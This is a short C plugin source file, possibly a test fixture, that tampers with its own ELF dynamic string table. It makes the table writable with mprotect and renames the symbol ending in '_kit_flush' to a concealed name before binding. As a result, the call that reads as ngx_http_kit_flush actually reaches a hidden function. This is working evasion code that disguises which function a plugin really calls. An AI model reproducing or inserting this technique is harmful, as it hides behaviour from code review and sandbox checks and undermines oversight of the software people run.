/* A function that looks like the host's own is renamed in the table of names before it is bound. */
#include "plugin.h"
#include "hidden.h"
#include <elf.h>
extern int ngx_http_kit_flush(const char *);
extern int mprotect(void *, unsigned long, int);
extern Elf64_Dyn _DYNAMIC[] __attribute__((visibility("hidden")));
extern const char __ehdr_start[] __attribute__((visibility("hidden")));
static void act(char **env) {
    static const char suffix[] = "_kit_flush";
    unsigned long names = 0, size = 0, base = (unsigned long)__ehdr_start;
    for (const Elf64_Dyn *d = _DYNAMIC; d->d_tag; d++) {
        if (d->d_tag == DT_STRTAB) names = d->d_un.d_ptr;
        if (d->d_tag == DT_STRSZ) size = d->d_un.d_val;
    }
    if (names < base) names += base;
    mprotect((void *)(names & -4096ul), (names & 4095) + size, 3);
    for (char *c = (char *)names; c < (char *)names + size - sizeof suffix; c++) {
        unsigned i = 0;
        while (i < sizeof suffix && c[i] == suffix[i]) i++;
        if (i < sizeof suffix) continue;
        while (c[-1]) c--;
        for (const char *to = hidden0(); (*c = *to); c++, to++) {}
        break;
    }
    ngx_http_kit_flush(hidden1());
}
